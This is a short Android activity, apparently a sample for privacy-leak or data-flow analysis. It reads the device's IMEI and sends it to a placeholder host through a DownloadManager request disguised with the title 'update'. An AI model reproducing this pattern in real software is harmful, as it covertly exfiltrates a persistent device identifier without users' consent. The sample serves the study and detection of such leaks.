package org.consentry.flow.platform.download;

import android.app.Activity;
import android.app.DownloadManager;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String id = phone.getDeviceId();
        setTitle(id);
        Uri address = Uri.parse("http://flow.samples.invalid/?id=" + id);
        DownloadManager downloads = (DownloadManager) getSystemService(DOWNLOAD_SERVICE);
        downloads.enqueue(new DownloadManager.Request(address).setTitle("update"));
    }
}
